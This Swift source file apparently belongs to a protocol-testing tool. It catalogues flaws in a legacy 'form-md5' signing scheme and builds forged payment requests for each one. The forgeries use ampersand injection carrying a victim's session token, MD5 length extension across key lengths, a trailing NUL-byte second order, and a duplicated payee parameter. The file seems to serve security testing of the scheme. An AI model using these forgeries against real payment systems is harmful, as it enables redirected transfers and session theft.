import CountersignWire

/// What form-md5 leaves open. Source: docs/protocol.md, "form-md5", and legacy's flaws of it.
enum FormMD5Ambiguities {
    static let all = [
        Ambiguity(
            "ampersand-in-value",
            "has its own app sign a payee that holds the victim's session, and reads it as parameters",
            bait: .ownTransfer(payee: bait), apply: recut),
        Ambiguity(
            "length-extension",
            "carries the MD5 on behind its own padding, with a payee of its own, for each length of the key",
            apply: extended),
        Ambiguity("bytes-after-nul", "puts another order behind a NUL at the end of the body", apply: afterNUL),
        join.swallowing,
        Ambiguity("parameter-twice", "names a second payee", apply: twice),
    ]

    private static let join = UnescapedJoin { $0 == "sign" }

    /// All that is sorted behind `to`, with the victim's session in it; `w` takes up what the app itself adds.
    private static func bait(_ order: Order, _ token: CapturedToken?) -> String? {
        token.map { "\(order.payee)&token=\($0.token)&userId=\($0.userID)&ver=\(Setting.version)&w=" }
    }

    private static func recut(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard let form = join.recut(request.parameters) else { return [] }
        return [request.with(form)]
    }

    /// What stands behind `private_key` in the signed text goes into `rand`, padding and all, and comes once more behind it, changed. Of
    /// the key only the length has to be known.
    private static func extended(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        let signed = join.sorted(request.parameters)
        guard let digest = request.parameters["sign"].flatMap(Hex.decode), let rand = request.parameters["rand"],
            let index = signed.firstIndex(where: { $0.name == "rand" })
        else { return [] }
        let behind = Array(signed[(index + 1)...])
        var changed = RawForm(behind)
        changed["to"] = order.payee
        let more = UnescapedJoin.text(changed.pairs, leading: true)
        let known = UnescapedJoin.text(signed).count + "&private_key=".utf8.count
        var requests: [RawRequest] = []
        for length in 1...64 {
            let (count, start) = (known + length, Array(rand.utf8) + UnescapedJoin.text(behind, leading: true))
            guard let sign = MD5Extension.digest(continuing: digest, of: count, with: more) else { continue }
            let swallowed = RawForm.Pair("rand", start + MD5Extension.padding(behind: count))
            let pairs = signed[..<index] + [swallowed] + changed.pairs + [.init("sign", Hex.encode(sign.span))]
            requests.append(request.with(RawForm(Array(pairs))))
        }
        return requests
    }

    /// A reader in C ends at the NUL, and one that was told the length goes on.
    private static func afterNUL(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard request.bodyForm != nil else { return [] }
        var copy = request
        copy.body += Array("\0&to=\(order.payee)&amount=\(order.amount)".utf8)
        return [copy]
    }

    private static func twice(_ request: RawRequest, _ order: Order) -> [RawRequest] {
        guard let payee = request.parameters["to"] else { return [] }
        let (genuine, other) = (RawForm.Pair("to", payee), RawForm.Pair("to", order.payee))
        let rest = request.parameters.pairs.filter { $0.name != "to" }
        return [request.with(RawForm([genuine, other] + rest)), request.with(RawForm([other, genuine] + rest))]
    }
}

extension RawRequest {
    /// The same with other parameters, in the place where they are.
    func with(_ form: RawForm) -> RawRequest {
        var copy = self
        copy.parameters = form
        return copy
    }
}
